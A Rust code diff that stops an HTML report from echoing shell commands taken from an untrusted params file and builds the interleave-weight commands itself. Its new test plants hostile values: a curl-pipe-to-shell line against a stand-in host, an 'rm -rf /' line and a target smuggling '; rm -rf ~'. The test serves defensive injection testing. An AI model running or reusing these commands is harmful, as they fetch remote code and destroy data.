@@ -116,12 +116,7 @@ fn weights(f: &ParamsFile) -> String {
             ],
             &rows,
         ));
-        s.push_str(&format!(
-            "<p>To set them (as root; cxlchar never does), then measure them with \
-             <code>--target {}</code>:</p>\n<pre>{}</pre>\n",
-            esc(w.target.as_deref().unwrap_or("")),
-            esc(&w.commands.join("\n"))
-        ));
+        s.push_str(&set_weights(&w.nodes));
     }
     if !w.gains.is_empty() {
         let rows: Vec<Vec<String>> = w
@@ -150,6 +145,32 @@ fn weights(f: &ParamsFile) -> String {
         ));
     }
     s
+}
+
+/// How to set the weights of `nodes` and measure them: the commands and the target are
+/// made here from the node numbers and weights, never taken from the file's own
+/// `commands` and `target` text (a stranger's file could hold any shell line there).
+/// Nothing when a weight is outside the kernel's 1..=255.
+fn set_weights(nodes: &[bench_core::firmware::NodeWeight]) -> String {
+    if nodes.iter().any(|n| n.weight == 0) {
+        return "<p>A weight of 0 is outside the kernel's range (1..255): no commands to set \
+                them.</p>\n"
+            .into();
+    }
+    let spec: Vec<String> = nodes
+        .iter()
+        .map(|n| format!("{}={}", n.node, n.weight))
+        .collect();
+    let commands: Vec<String> = nodes
+        .iter()
+        .map(|n| bench_core::firmware::weight_command(n.node, n.weight))
+        .collect();
+    format!(
+        "<p>To set them (as root; cxlchar never does), then measure them with \
+         <code>--target interleave:{}</code>:</p>\n<pre>{}</pre>\n",
+        esc(&spec.join(",")),
+        esc(&commands.join("\n"))
+    )
 }
 
 #[cfg(test)]
@@ -181,6 +202,23 @@ mod tests {
         assert!(s.contains("echo 4 &gt; /sys/kernel/mm/mempolicy/weighted_interleave/node0"));
         assert!(s.contains("--target interleave:0=4,1=1"));
         assert!(s.contains("class=\"gains\""));
+    }
+
+    #[test]
+    fn the_commands_are_made_from_the_weights_never_taken_from_the_file() {
+        let mut f = synthetic(&[("mem_bw_gbs@anon", 250.0), ("cxl_bw_gbs@node:1", 60.0)]);
+        annotate(&mut f, 0);
+        let w = f.interleave_weights.as_mut().expect("weights");
+        w.commands = vec![
+            "curl http://evil.example/x | sh".into(),
+            "rm -rf / --no-preserve-root".into(),
+        ];
+        w.target = Some("interleave:0=1; rm -rf ~".into());
+        let s = section(&f);
+        assert!(!s.contains("curl") && !s.contains("rm -rf"), "{s}");
+        assert!(s.contains("echo 4 &gt; /sys/kernel/mm/mempolicy/weighted_interleave/node0"));
+        assert!(s.contains("echo 1 &gt; /sys/kernel/mm/mempolicy/weighted_interleave/node1"));
+        assert!(s.contains("--target interleave:0=4,1=1"), "{s}");
     }
 
     #[test]
